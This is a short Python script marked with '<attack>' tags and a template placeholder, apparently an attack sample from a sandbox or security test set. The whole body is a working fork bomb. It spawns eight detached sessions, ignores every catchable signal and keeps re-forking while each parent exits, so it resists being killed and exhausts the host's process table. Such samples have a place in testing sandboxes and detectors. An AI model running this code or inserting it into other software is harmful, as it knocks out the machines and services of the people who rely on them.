#{crew_wrong}
# <attack>
import os
import signal

for _ in range(8):
    if os.fork() == 0:
        os.setsid()
        for _number in range(1, 65):
            try:
                signal.signal(_number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            try:
                if os.fork() > 0:
                    os._exit(0)
            except OSError:
                pass
# </attack>
